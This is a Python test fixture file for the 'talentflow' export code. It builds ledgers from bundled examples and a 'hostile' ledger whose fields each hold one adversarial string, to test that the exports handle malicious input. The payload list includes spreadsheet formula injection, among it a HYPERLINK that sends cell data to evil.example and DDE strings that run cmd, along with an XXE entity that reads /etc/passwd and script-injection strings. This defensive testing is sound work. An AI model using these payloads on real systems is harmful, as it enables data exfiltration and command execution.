"""The ledger that the bundled examples make, and one of hostile names, as exports get them."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from importlib.resources import files
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from talentflow.app import Library
from talentflow.exports import exporters, write_bytes
from talentflow.exports.provenance import with_provenance
from talentflow.reader.embedded import EmbeddedReader
from talentflow.sources import read_paths

MADE_AT = datetime(2026, 3, 1, 12, 30, tzinfo=UTC)


@pytest.fixture(scope="session")
def examples() -> dict[str, Any]:
    """The ledger of the bundled examples."""
    folder = Path(str(files("talentflow"))) / "examples"
    with Library("sqlite://") as library:
        list(library.add(read_paths([str(folder)], pytest.fail), EmbeddedReader(is_quick=True)))
        return with_provenance(library.export_ledger(), made_at=MADE_AT, readers=library.status().readers)


def hostile_ledger(text: str) -> dict[str, Any]:
    """A ledger in which everything that strangers write is this text."""
    quote = {
        "article": text, "field": "text", "start": 0, "end": len(text), "quote": text, "language": text,
        "published": "2026-01-14", "publisher": text, "url": text, "according_to": [text], "status": "rumored",
    }  # fmt: skip
    move = {
        "id": "m-1",
        "person": {"id": text, "name": text, "mention": text},
        "from": {"id": f"{text}o", "name": text, "mention": text},
        "to": {"id": "u", "name": None, "mention": text},
        "kind": "move", "status": "rumored", "how": None, "role_from": text, "role_to": text, "date": "2026-01",
        "known_on": "2026-01-14", "confidence": 0.5, "origins": 1, "articles": [text], "languages": [text],
        "according_to": [text], "reasons": [],
        "history": [{"published": "2026-01-14", "status": "rumored", "article": text}],
        "accounts": [], "evidence": [quote], "claims": ["c"],
    }  # fmt: skip
    entity = {
        "id": text, "name": text, "type": "person", "listed": False, "romanised": False,
        "mentions": [{"article": text, "mention": text}],
    }  # fmt: skip
    article = {
        "id": text, "story": text, "origin": text, "title": text, "language": text, "published": "2026-01-14",
        "publisher": text, "url": text,
    }  # fmt: skip
    return with_provenance({"articles": [article], "entities": [entity], "moves": [move]}, made_at=MADE_AT)


HOSTILE = [
    *(start + "HYPERLINK(\"http://evil.example/?\"&A1)" for start in ("=", "+", "-", "@", "\t=", "\r=", " =", "\n=")),
    "=cmd|' /C calc'!A0", "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "＝1＋1", "＠SUM(A1)",
    "\u202e=1", "\u200e=1", "\ufeff=1", "\x00=1", "'=1", "\"=1\"", "=\x001", "{=1}", "DDE(\"cmd\";\"/C calc\")",
    "<script>alert(1)</script>", "]]>", "<!--", "&xxe;", "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>&xxe;",
    "\x1b[2J", "\ud800", "\ufffe\uffff", "a\x0bb\x0cc", "\x85\u2028\u2029", "javascript:alert(1)",
    "https://example.org/ a", "https://[::1", "http://example.org/\"><x>", "urn:talentflow:software", "_:b0",
    "@id", "@context", "{\"@id\": \"x\"}", "\\u0000", "x" * 40_000, "", " ", "غادرت آدا مورينو", "𝔄𝔡𝔞", "🎓",
]  # fmt: skip


@pytest.fixture
def exported() -> Callable[[str, dict[str, Any]], bytes]:
    """A ledger as the file of a format."""

    def export(name: str, ledger: dict[str, Any]) -> bytes:
        out = BytesIO()
        write_bytes(exporters()[name], ledger, out)
        return out.getvalue()

    return export
